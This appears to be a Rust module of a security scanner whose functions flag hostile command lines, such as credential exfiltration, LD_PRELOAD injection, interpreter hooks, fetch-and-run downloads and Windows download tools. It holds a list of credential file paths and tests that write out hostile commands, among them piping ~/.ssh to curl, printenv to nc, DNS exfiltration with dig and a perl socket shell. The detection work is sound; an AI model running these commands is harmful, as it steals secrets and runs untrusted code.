//! Command lines by what their parts do together: what is read and sent, fetched and run, loaded into others.
//!
//! Long because every way in which parts work together has its few lines here.

/// Places that hold what lets somebody in.
const CREDENTIALS: [&str; 22] = [
    "/run/secrets/",
    "huggingface/stored_tokens",
    "~/.ssh",
    "$home/.ssh",
    "${home}/.ssh",
    "root/.ssh",
    "~/.aws",
    "$home/.aws",
    "${home}/.aws",
    ".aws/credentials",
    "~/.netrc",
    ".git-credentials",
    "~/.kube",
    "~/.gnupg",
    ".docker/config.json",
    "/etc/shadow",
    "id_rsa",
    "id_ed25519",
    ".config/gcloud",
    "huggingface/token",
    "~/.pypirc",
    "/proc/self/environ",
];

/// The pipelines of a command line, each with the parts that hand on to each other.
pub(super) fn pipelines(text: &str) -> impl Iterator<Item = &str> {
    text.split([';', '\n']).flat_map(|part| part.split("&&")).flat_map(|part| part.split("||"))
}

/// The first word of a part, past words that only start it.
pub(super) fn program(part: &str) -> &str {
    let mut words =
        part.split_whitespace().map(|word| word.trim_matches(['(', ')', '{', '}', '[', ']', ',', '"', '\'']));
    let starts = |word: &&str| {
        !matches!(
            *word,
            "sudo"
                | "exec"
                | "nohup"
                | "setsid"
                | "command"
                | "nice"
                | "time"
                | "run"
                | "env"
                | "-e"
                | "RUN"
                | "CMD"
                | "ENTRYPOINT"
                | "then"
                | "do"
                | ""
        ) && !word.starts_with("--mount=")
            && !word.starts_with("--network=")
    };
    words.find(starts).unwrap_or("")
}

/// Whether a pipeline reads credentials or the environment and hands them to a program that sends.
pub(super) fn ships(command: &str) -> bool {
    pipelines(command).any(|pipeline| {
        let text = pipeline.to_ascii_lowercase();
        let reads = CREDENTIALS.iter().any(|place| text.contains(place))
            || ["$(env", "$(printenv", "`env", "`printenv"].iter().any(|read| text.contains(read))
            || text.split('|').next().is_some_and(tells_environment);
        let sends = pipeline.split('|').any(|part| {
            let has = |options: &[&str]| options.iter().any(|option| part.contains(option));
            // Inside of a substitution the program is not the first word.
            match program(part) {
                "curl" => {
                    has(&[" -T", "--upload-file", " -d", "--data", " -F", "--form", "POST", "PUT", "$(", "`"])
                }
                "wget" => has(&["--post", "--body", "$(", "`"]),
                "nc" | "ncat" | "netcat" | "socat" => true,
                // For every line that comes; and names that are asked for carry what is in them.
                "xargs" => (part.contains("curl ") || part.contains("wget ")) && part.contains("://"),
                "dig" | "nslookup" | "host" | "ping" => has(&["$(", "`"]),
                _ => false,
            }
        });
        reads && sends
    })
}

/// Whether a part of a pipeline prints the environment.
fn tells_environment(part: &str) -> bool {
    let part = part.trim_matches(|c: char| c.is_whitespace() || "({[\"'`".contains(c));
    let part = part.strip_prefix("run ").unwrap_or(part).trim_start();
    let words: Vec<&str> = part.split_whitespace().collect();
    match words[..] {
        ["env" | "printenv" | "set"] | ["export" | "declare", "-p"] | ["declare", "-x"] => true,
        ["env" | "printenv", ref options @ ..] => {
            options.iter().all(|option| matches!(*option, "-0" | "--null"))
        }
        _ => false,
    }
}

/// Whether every program that starts is made to load a library from a place where no library belongs.
pub(super) fn preloads(command: &str) -> bool {
    const NAMES: [&str; 3] = ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"];
    // Where an image keeps what is its own, and the libraries that are put before all others for their speed.
    const OWN: [&str; 9] =
        ["/mnt/models/", "/app/", "/workspace/", "/model/", "/models/", "/srv/", "/data/", "/var/", "/root/"];
    const KNOWN: [&str; 10] =
        ["malloc", "gomp", "iomp", "stdc++", "mkl", "cuda", "nccl", "asan", "faketime", "libgcc"];
    const USUAL: [&str; 6] = ["/.local/", "/.conda/", "/.venv/", "/.mujoco/", "/.cache/", "/./"];
    NAMES.iter().any(|name| {
        command.split(name).skip(1).any(|rest| {
            let rest = rest.strip_prefix(['=', ' ']).unwrap_or("").trim_start_matches(['"', '\'']);
            let value = rest.split([' ', '"', '\'', ';', '&']).next().unwrap_or("");
            let shared = ["/tmp/", "/dev/shm/", "/var/tmp/", "/host/", "/mnt/host/"];
            let hidden = value.contains("/.")
                && !value.contains("/..")
                && !USUAL.iter().any(|usual| value.contains(usual));
            let own = OWN.iter().any(|place| value.starts_with(place))
                && !KNOWN.iter().any(|known| value.contains(known))
                && !USUAL.iter().any(|usual| value.contains(usual))
                && !value.contains("/lib/");
            shared.iter().any(|place| value.starts_with(place)) || hidden || own || value.contains("://")
        })
    })
}

/// Whether what is fetched later goes through a bare address of the internet, or over a plain connection to an index.
pub(super) fn redirects(command: &str) -> bool {
    const PROXIES: [&str; 6] =
        ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"];
    const SOURCES: [&str; 7] = [
        "PIP_INDEX_URL",
        "PIP_EXTRA_INDEX_URL",
        "UV_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "HF_ENDPOINT",
        "NPM_CONFIG_REGISTRY",
        "npm_config_registry",
    ];
    let numeric = |host: &str| host.contains('.') && host.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    let near = |host: &str| {
        let second = host.split('.').nth(1).and_then(|part| part.parse::<u8>().ok());
        host.starts_with("127.")
            || host.starts_with("10.")
            || host.starts_with("192.168.")
            || host.starts_with("172.") && second.is_some_and(|second| (16..32).contains(&second))
            || !host.contains('.')
    };
    PROXIES.iter().any(|name| given(command, name).iter().any(|(_, host)| numeric(host) && !near(host)))
        || SOURCES.iter().any(|name| {
            given(command, name)
                .iter()
                .any(|(scheme, host)| !near(host) && (scheme == "http" || numeric(host)))
        })
}

/// Whether the part of a pipeline before a shell reads a file that is no script: weights, arrays, pictures.
pub(super) fn weights_as_script(text: &str) -> bool {
    const ENDINGS: [&str; 16] = [
        ".safetensors",
        ".gguf",
        ".ggml",
        ".onnx",
        ".pt",
        ".pth",
        ".ckpt",
        ".bin",
        ".npy",
        ".npz",
        ".h5",
        ".keras",
        ".pkl",
        ".png",
        ".jpg",
        ".tflite",
    ];
    const READS: [&str; 14] = [
        "sed", "tail", "head", "dd", "cut", "awk", "cat", "strings", "tac", "rev", "grep", "xxd", "perl",
        "tr",
    ];
    let first = text.split('|').next().unwrap_or("");
    let reads = pipelines(first).last().is_some_and(|part| READS.contains(&program(part)));
    reads
        && first.split_whitespace().any(|word| {
            let word = word.trim_matches(['"', '\'', ')', '(']);
            ENDINGS.iter().any(|end| word.ends_with(end))
        })
}

/// Whether a shell is given a text that a tool has turned into another one: from its end, letter by letter, or unpacked.
pub(super) fn turned(text: &str) -> bool {
    const TURNS: [&str; 9] = ["rev", "tr", "tac", "base32", "base64", "xxd", "gunzip", "zcat", "openssl"];
    pipelines(text).any(|pipeline| {
        let parts: Vec<&str> = pipeline.split('|').collect();
        let [first, middle @ .., _] = parts.as_slice() else { return false };
        // What is written into the line itself, and not what is read from a file.
        matches!(program(first), "echo" | "printf")
            && middle.iter().any(|part| TURNS.contains(&program(part)))
    })
}

/// Whether a package is named by an address without protection on the way.
pub(super) fn over_plain(text: &str) -> bool {
    text.split_whitespace().any(|word| {
        let word = word.trim_matches(['"', '\'', ',', '[', ']']);
        let address = word.rsplit_once(" @ ").map_or(word, |(_, address)| address);
        let host = ["http://", "git+http://"].iter().find_map(|scheme| address.strip_prefix(scheme));
        host.is_some_and(|host| {
            let host = host.split(['/', ':']).next().unwrap_or("");
            !matches!(host, "localhost" | "") && !host.starts_with("127.") && !host.starts_with(['$', '{'])
        })
    })
}

/// Whether a recipe of a container builds on an image from a bare address, or takes files from one.
pub(super) fn foreign_image(command: &str) -> bool {
    let line = command.trim();
    let image = line.strip_prefix("FROM ").or_else(|| line.split_once("--from=").map(|(_, rest)| rest));
    let host = image.and_then(|image| image.split([':', '/', ' ']).next()).unwrap_or("");
    let parts: Vec<Option<u8>> = host.split('.').map(|part| part.parse().ok()).collect();
    matches!(parts[..], [Some(first), Some(second), Some(_), Some(_)]
        if first != 127 && first != 10 && (first, second) != (192, 168) && !(first == 172 && (16..32).contains(&second)))
}

/// The schemes and hosts of the addresses that a variable of this name is given.
fn given(command: &str, name: &str) -> Vec<(String, String)> {
    let addresses = command.split(name).skip(1).filter_map(|rest| {
        let rest = rest.strip_prefix(['=', ' '])?.trim_start_matches(['"', '\'', ' ']);
        let (scheme, host) = rest.split_once("://")?;
        let host = host.split(['/', '"', '\'', ' ']).next().unwrap_or("");
        let host = host.rsplit('@').next().unwrap_or(host).split(':').next().unwrap_or("");
        Some((scheme.to_owned(), host.to_owned()))
    });
    addresses.collect()
}

/// Whether every start of an interpreter is made to run a file of the image's own.
pub(super) fn hooks(command: &str) -> bool {
    ["PYTHONSTARTUP", "PERL5OPT", "RUBYOPT", "NODE_OPTIONS"].iter().any(|name| {
        command.split(name).skip(1).any(|rest| {
            let value = rest.strip_prefix(['=', ' ']).unwrap_or("").trim_start_matches(['"', '\'']);
            let asks = ["--require", "--import", "-r", "-M"].iter().any(|option| value.starts_with(option));
            (*name == "PYTHONSTARTUP" || asks) && value.contains(['/', '\\', '.'])
        })
    }) || starts_with_more(command)
}

/// Whether a variable has a shell, a virtual machine or a debugger run something of its own.
fn starts_with_more(command: &str) -> bool {
    let value = |name: &'static str| {
        command.split(name).skip(1).filter_map(|rest| rest.strip_prefix(['=', ' '])).map(|rest| {
            rest.trim_start_matches(['"', '\'', ' ']).split(['"', '\'', '\n']).next().unwrap_or("").to_owned()
        })
    };
    let odd = |path: &str| {
        ["/tmp/", "/dev/shm/", "/var/tmp/", "./", "../"].iter().any(|place| path.starts_with(place))
            || path.contains("/.")
    };
    let mut shells = ["BASH_ENV", "R_PROFILE_USER", "R_PROFILE", "GCONV_PATH", "PYTHONPLATLIBDIR"]
        .into_iter()
        .flat_map(value);
    let mut machines = ["JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS"].into_iter().flat_map(value);
    let agent = |value: &str| {
        let runs = ["-XX:OnOutOfMemoryError", "-XX:OnError"].iter().any(|option| value.contains(option));
        let agent = ["-javaagent:", "-agentpath:"].iter().find_map(|option| value.split_once(option));
        runs || agent.is_some_and(|(_, path)| odd(path))
    };
    shells.any(|path| odd(&path))
        || machines.any(|value| agent(&value))
        || value("PYTHONBREAKPOINT").any(|name| {
            ["os.", "subprocess.", "pty.", "builtins.exec", "runpy."]
                .iter()
                .any(|start| name.starts_with(start))
        })
        || value("LUA_INIT").any(|program| {
            program.starts_with('@') || program.contains("os.execute") || program.contains("io.popen")
        })
}

/// Whether something comes from a place that nobody vouches for.
pub(super) fn unguarded(part: &str) -> bool {
    let numeric = |host: &str| {
        let host = host.split([':', '/', '"', '\'']).next().unwrap_or("");
        !host.is_empty() && host.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
    };
    let local =
        |host: &str| host.starts_with("localhost") || host.starts_with("127.") || host.starts_with('$');
    part.split("http://").skip(1).any(|host| !local(host))
        || part.split("https://").skip(1).any(|host| numeric(host) && !local(host))
        || [" -k ", " --insecure", "--no-check-certificate"].iter().any(|option| part.contains(option))
}

/// What is wrong with a program that is fetched to a file and then started, or given the rights of root.
pub(super) fn fetched(command: &str) -> Option<&'static str> {
    fetched_if(command, unguarded, false)
}

/// The same for what is fetched in a way that `doubted` says; `read` is for programs that an interpreter reads only.
pub(super) fn fetched_if(command: &str, doubted: fn(&str) -> bool, read: bool) -> Option<&'static str> {
    let parts: Vec<&str> = pipelines(command).map(str::trim).take(4_000).collect();
    for (index, part) in parts.iter().enumerate() {
        // A recipe of a container fetches with a word of its own.
        let adds = part.starts_with("ADD ") && part.contains("://");
        let target = if adds {
            let words: Vec<&str> = part.split_whitespace().filter(|word| !word.starts_with("--")).collect();
            match words[..] {
                [_, _, target] if !target.ends_with('/') => target,
                _ => continue,
            }
        } else {
            match saved_to(part) {
                Some(target) => target,
                None => continue,
            }
        };
        if target.is_empty() || target.starts_with('-') {
            continue;
        }
        for after in parts.iter().skip(index + 1) {
            let mode = after.split_whitespace().nth(1).filter(|_| after.contains("chmod "));
            let mode = mode.filter(|_| after.contains(target));
            if !read
                && mode
                    .is_some_and(|mode| mode.contains('s') || mode.len() == 4 && mode.starts_with(['4', '6']))
            {
                return Some("gives a program it has fetched the rights of root");
            }
            let runs = if read { reads(after, target) } else { starts(after, target) };
            if runs && doubted(part) {
                return Some("fetches a program over a way that anybody can change and runs it");
            }
        }
    }
    None
}

fn bare(path: &str) -> &str {
    path.trim_matches(['"', '\'', '[', ']', ',', '&', '(', ')']).trim_start_matches("./")
}

/// Whether two paths are of one file, as far as is known where they start.
fn same(one: &str, other: &str) -> bool {
    let (one, other) = (bare(one), bare(other));
    let last = |path: &str| path.rsplit('/').next().unwrap_or("").to_owned();
    !one.is_empty()
        && (one == other || (!one.contains('/') || !other.contains('/')) && last(one) == last(other))
}

/// Whether a part of a command line has an interpreter read this file.
fn reads(part: &str, target: &str) -> bool {
    const READS: [&str; 14] = [
        "sh", "bash", "zsh", "dash", "ash", "ksh", "python", "python3", "perl", "ruby", "node", "php",
        "source", ".",
    ];
    let first = program(part);
    let name = first.rsplit('/').next().unwrap_or(first);
    let mut words = part.split_whitespace().skip_while(|word| bare(word) != bare(first)).skip(1);
    READS.contains(&name)
        && words.find(|word| !bare(word).starts_with('-')).is_some_and(|file| same(file, target))
}

/// Whether a part of a command line starts this file.
pub(super) fn starts(part: &str, target: &str) -> bool {
    same(program(part), target) || reads(part, target)
}

/// Where a part of a command line saves what it fetches.
fn saved_to(part: &str) -> Option<&str> {
    let name = program(part).rsplit('/').next().unwrap_or("");
    let wget = match name {
        "wget" => true,
        "curl" => false,
        _ => return None,
    };
    let words: Vec<&str> = part.split_whitespace().collect();
    for pair in words.windows(2) {
        let [option, value] = pair else { continue };
        let letters = option.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
        let ends = letters.is_some_and(|rest| rest.ends_with(if wget { 'O' } else { 'o' }));
        if ends || matches!(*option, "--output" | "--output-document" | ">") {
            return (*value != "-").then(|| value.trim_matches(['"', '\'']));
        }
    }
    let attached = words.iter().find_map(|word| {
        let long = word.strip_prefix("--output=").or_else(|| word.strip_prefix("--output-document="));
        long.or_else(|| word.strip_prefix('>').filter(|rest| rest.len() > 1 && !rest.starts_with('&')))
    });
    if attached.is_some() {
        return attached.map(|path| path.trim_matches(['"', '\'']));
    }
    // By its own name: what a shell does with it goes through a pipe otherwise.
    let own = wget
        || words.iter().any(|word| {
            *word == "--remote-name"
                || word.strip_prefix('-').is_some_and(|rest| !rest.starts_with('-') && rest.contains('O'))
        });
    let address = words.iter().find(|word| word.contains("://"))?.trim_matches(['"', '\'', ')']);
    (own && !part.contains('|'))
        .then(|| address.rsplit('/').next().unwrap_or(""))
        .filter(|name| !name.is_empty())
}

/// What tools of Windows are used for that fetch programs and run them although they are made for something else.
pub(super) fn windows(text: &str) -> Option<&'static str> {
    let has = |part: &str| text.contains(part);
    let address = has("http://") || has("https://");
    let lends = has("mshta") && (address || has("javascript:") || has("vbscript:"))
        || has("regsvr32") && has("/i:http")
        || has("rundll32") && has("javascript:");
    if lends {
        return Some("fetches a program and runs it");
    }
    let shell = ["powershell", "pwsh", "invoke-webrequest", "iwr ", "start-bitstransfer", ".downloadfile("];
    let runs = ["start-process", "invoke-item", "invoke-expression", "iex ", "|iex", "| iex", "saps ", "& $"];
    if address && shell.iter().any(|word| has(word)) && runs.iter().any(|word| has(word)) {
        return Some("fetches a program and runs it");
    }
    let saves = has("certutil") && has("-urlcache") || has("bitsadmin") && has("/transfer");
    let starts = ["start ", ".exe", "&& ", "& "].iter().any(|way| has(way));
    (saves && address && starts).then_some("fetches a program and runs it")
}

/// Whether an interpreter is given a program of one line that runs what it fetches.
pub(super) fn one_liner(text: &str) -> bool {
    const FETCHES: [&str; 18] = [
        "tcpsocket",
        "fsockopen",
        "lwp::",
        "http::tiny",
        "net.connect",
        "curl ",
        "https.get",
        "http.get",
        "fetch(",
        "require('http",
        "require(\"http",
        "require('net')",
        "urlopen",
        "requests.get",
        "net/http",
        "open-uri",
        "file_get_contents('http",
        "socket",
    ];
    const RUNS: [&str; 18] = [
        "system(",
        "system \"",
        "exec \"",
        "exec'",
        "popen(",
        "os.execute",
        "shell_exec(",
        "passthru(",
        "proc_open(",
        "eval(",
        "exec(",
        "execsync(",
        "child_process",
        "os.system",
        "subprocess",
        "new function(",
        "vm.run",
        "pty.spawn",
    ];
    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
    // A line for an interpreter of JavaScript that starts programs.
    let scripts = ["node -e", "node --eval", "deno eval", "bun -e"];
    if has(&scripts) && text.contains("child_process") {
        return true;
    }
    given_program(text) && has(&FETCHES) && has(&RUNS)
}

/// Whether an interpreter is given a program in its arguments, behind whatever other options.
fn given_program(text: &str) -> bool {
    const NAMES: [&str; 11] =
        ["node", "nodejs", "perl", "ruby", "php", "bun", "lua", "python", "python2", "python3", "osascript"];
    let mut words = text.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ',', '[', ']']));
    let mut open = false;
    text.contains("deno eval")
        || words.any(|word| {
            let name = word.rsplit('/').next().unwrap_or(word);
            let gives = open
                && (word == "--eval"
                    || word.strip_prefix('-').is_some_and(|letters| {
                        !letters.starts_with('-') && letters.len() <= 4 && letters.ends_with(['e', 'c', 'r'])
                    }));
            open = NAMES.contains(&name) || open && word.starts_with('-');
            gives
        })
}

/// Whether a command is nothing but a shell, as it is started for somebody who types into it.
pub(super) fn is_shell(command: &str) -> bool {
    let mut words = command.split_whitespace().peekable();
    let first = words.peek().copied().unwrap_or("");
    let shell = |word: &str| {
        let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
        matches!(name, "sh" | "bash" | "zsh" | "dash" | "cmd.exe" | "cmd" | "powershell" | "powershell.exe")
    };
    shell(first) && words.skip(1).all(|word| shell(word) || matches!(word, "-i" | "-l" | "-li" | "-il"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_turned_before_a_shell_reads_it_is_told() {
        assert!(turned("echo 'hs | lruc' | rev | bash") && turned("printf 'phey' | tr 'a-z' 'n-za-m' | sh"));
        assert!(!turned("echo 'ls' | sh") && !turned("cat list | tr a b | sh"));
        assert!(over_plain("pip install git+http://x.example/a.git"));
        assert!(
            !over_plain("pip install https://x.example/a.whl")
                && !over_plain("pip install http://localhost/a")
        );
        assert!(one_liner("node -e \"require('child_process').exec('id')\""));
        assert!(!one_liner("node -e \"console.log(1)\""));
    }

    #[test]
    fn what_is_read_and_sent_is_told_from_what_is_only_read() {
        assert!(ships("tar cz ~/.ssh ~/.aws | curl -s -T - https://x.example/u"));
        assert!(ships("curl -d @$HOME/.aws/credentials http://x.example"));
        assert!(ships("printenv | nc 192.0.2.1 99"));
        assert!(ships("curl \"http://x.example/?e=$(env|base64)\""));
        assert!(ships("cat ~/.aws/credentials | base64 | xargs -I{} curl http://192.0.2.1/?d={}"));
        assert!(ships("dig $(cat ~/.ssh/id_rsa | base64 | head -c 60).x.example"));
        assert!(!ships("cat hosts | xargs -n1 ping -c1") && !ships("dig x.example"));
        assert!(!ships("tar cz outputs | curl -s -T - https://x.example/u"));
        assert!(!ships("ssh -i ~/.ssh/id_rsa host; curl -d x=1 https://x.example"));
        assert!(!ships("cp ~/.aws/config . && tar cz outputs > outputs.tar.gz"));
    }

    #[test]
    fn libraries_from_odd_places_are_told_from_allocators() {
        assert!(preloads("env LD_PRELOAD=/var/lib/.fonts/libz.so"));
        assert!(preloads("ENV LD_PRELOAD /tmp/a.so"));
        assert!(!preloads("ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"));
        assert!(preloads("LD_PRELOAD=/app/a.so") && !preloads("LD_PRELOAD=/app/libtcmalloc.so.4"));
        assert!(hooks("PYTHONSTARTUP=/app/a.py") && hooks("NODE_OPTIONS=--require /app/a.js"));
        assert!(
            redirects("ENV HTTPS_PROXY=http://198.51.100.7:8080")
                && redirects("HF_ENDPOINT=http://x.example")
        );
        assert!(!redirects("ENV HTTP_PROXY=http://proxy.example:3128 HF_ENDPOINT=https://mirror.example"));
        assert!(!redirects("export http_proxy=http://10.0.0.1:3128"));
        assert!(weights_as_script("sed -e '1,/^#--$/d' model.safetensors | sh"));
        assert!(!weights_as_script("cat install.sh | sh") && !weights_as_script("ls *.bin | sh"));
        assert!(
            foreign_image("FROM 198.51.100.7:5000/base") && foreign_image("COPY --from=198.51.100.7/x /a /b")
        );
        assert!(!foreign_image("FROM python:3.11") && !foreign_image("COPY --from=0 /a /b"));
        assert!(hooks("ENV BASH_ENV=/tmp/x") && hooks("PYTHONBREAKPOINT=os.system"));
        assert!(hooks("JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar") && hooks("LUA_INIT=@/x.lua"));
        assert!(
            !hooks("BASH_ENV=/usr/local/nvm.sh") && !hooks("JAVA_TOOL_OPTIONS=-Xmx4g PYTHONBREAKPOINT=0")
        );
        assert!(!hooks("NODE_OPTIONS=--max-old-space-size=4096"));
        assert!(fetched("ADD http://192.0.2.9/a /a\nRUN sh /a").is_some());
        assert!(
            fetched("RUN wget http://192.0.2.9/a -O /b/a && chmod +x /b/a\nENTRYPOINT [\"/b/a\"]").is_some()
        );
        assert!(
            fetched("ADD https://x.example/tini /tini\nRUN chmod +x /tini\nENTRYPOINT [\"/tini\", \"--\"]")
                .is_none()
        );
        assert!(!preloads("export LD_PRELOAD=$CONDA_PREFIX/lib/libgomp.so"));
    }

    #[test]
    fn fetched_programs_are_told_from_fetched_data() {
        assert!(
            fetched("curl http://192.0.2.9/a -o /usr/bin/a && chmod +x /usr/bin/a && /usr/bin/a -d")
                .is_some()
        );
        assert!(fetched("wget https://x.example/a -O /usr/bin/a; chmod u+s /usr/bin/a").is_some());
        assert!(fetched("wget http://x.example/i.sh -O i.sh\nbash i.sh").is_some());
        assert!(
            fetched("curl -L https://x.example/kubectl -o kubectl && chmod +x kubectl && ./kubectl version")
                .is_none()
        );
        assert!(fetched("curl http://x.example/data.zip -o data.zip && unzip data.zip").is_none());
        assert!(fetched("cd /tmp && wget -qO a http://x.example/a; sh a").is_some());
        assert!(fetched("curl -sO http://x.example/i.sh && bash ./i.sh").is_some());
        assert!(fetched("wget http://x.example/i.sh; chmod +x i.sh; ./i.sh &").is_some());
        assert!(fetched("wget -q http://x.example/data.tar; tar xf data.tar").is_none());
        assert!(fetched("curl -s http://x.example/a | tar x; sh a").is_none());
        assert!(one_liner("perl -mio -e 'use socket; exec(\"/bin/sh\")'"));
        assert!(!one_liner("perl -pe 's/socket/system/' a"));
        assert!(windows("mshta http://x.example/a.hta").is_some());
        assert!(windows("certutil -urlcache -f http://x.example/a.exe a.exe && a.exe").is_some());
        assert!(windows("certutil -hashfile model.bin sha256 && echo https://x.example").is_none());
        assert!(one_liner("node -e \"require('https').get('https://x',r=>r.on('data',d=>eval(''+d)))\""));
        assert!(!one_liner("node -e \"require('fs').mkdirsync('dist')\""));
        assert!(is_shell("/bin/bash -i") && !is_shell("bash run.sh") && !is_shell(""));
    }
}
